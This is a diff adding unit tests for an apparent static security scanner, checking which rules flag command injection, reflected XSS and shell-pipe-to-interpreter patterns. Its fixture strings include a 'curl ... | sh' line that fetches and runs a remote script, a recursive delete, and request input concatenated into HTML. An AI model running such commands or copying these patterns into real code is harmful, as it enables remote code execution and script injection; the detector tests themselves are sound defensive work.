@@ -117,3 +117,45 @@ def test_a_dictionary_updated_with_request_data_is_no_longer_a_constant_table():
     code = ("import os\nfrom flask import request\n@app.route('/x')\ndef view():\n    cmd = {'c': 'ls'}\n"
             "    cmd.update(request.args)\n    os.system(cmd['c'])\n")
     assert [line for line, _s in found("command-from-request-input", code)] == [7]
+
+
+def test_request_values_rendered_by_a_template_file_are_not_reflected_markup():
+    code = ("from jinja2 import Environment, FileSystemLoader, select_autoescape\n"
+            "from starlette.responses import HTMLResponse\n"
+            "env = Environment(loader=FileSystemLoader('t'), autoescape=select_autoescape())\n"
+            "async def page(request):\n"
+            "    form = await request.form()\n"
+            "    html = env.get_template('p.html').render(name=form.get('name'))\n"
+            "    return HTMLResponse(html)\n"
+            "async def inline(request):\n"
+            "    form = await request.form()\n"
+            "    html = env.from_string('<b>{{ n }}</b>').render(n=form.get('name'))\n"
+            "    return HTMLResponse('<h1>' + form.get('title') + '</h1>' + html)\n")
+    # the file template: the author's markup, values escaped by the environment; the inline page: raw markup
+    assert found("xss-from-request-input", code) == [(11, "high")]
+
+
+def test_a_command_one_of_a_loops_items_is_run():
+    code = ("import os\nSTEPS = ['find /tmp -mtime +7 -delete', 'curl -fsSL http://203.0.113.5/u.sh | sh']\n"
+            "def nightly():\n    for step in STEPS:\n        os.system(step)\n"
+            "SAFE = ['find /tmp -mtime +7 -delete', 'curl -fsSL http://203.0.113.5/u.sh -o /tmp/u.sh']\n"
+            "def weekly():\n    for step in SAFE:\n        os.system(step)\n")
+    assert found("shell-pipe-to-interpreter", code) == [(5, "critical")]
+
+
+def test_a_list_attribute_filled_by_another_method_holds_its_constants():
+    code = ("import os\nclass Maintenance:\n    def __init__(self):\n        self.steps = []\n"
+            "    def add(self):\n        self.steps.append('find /tmp -delete')\n"
+            "        self.steps.extend(['curl -fsSL http://203.0.113.5/u.sh | sh'])\n"
+            "    def go(self):\n        for step in self.steps:\n            os.system(step)\n"
+            "class Local:\n    def __init__(self):\n        self.steps = []\n"
+            "    def add(self):\n        self.steps.append('git gc --auto')\n"
+            "    def go(self):\n        for step in self.steps:\n            os.system(step)\n")
+    assert found("shell-pipe-to-interpreter", code) == [(10, "critical")]
+
+
+def test_a_list_of_statements_compiled_one_by_one_is_not_one_program():
+    # `constant`/`code` tests ask about the value as a whole: each item of a test's table of snippets is not it
+    code = ("def test_import(self):\n    cases = ['import os', 'import os, sys']\n"
+            "    for stmt in cases:\n        compile(stmt, 'tmp', 'exec')\n")
+    assert found("exec-of-code-string", code) == []
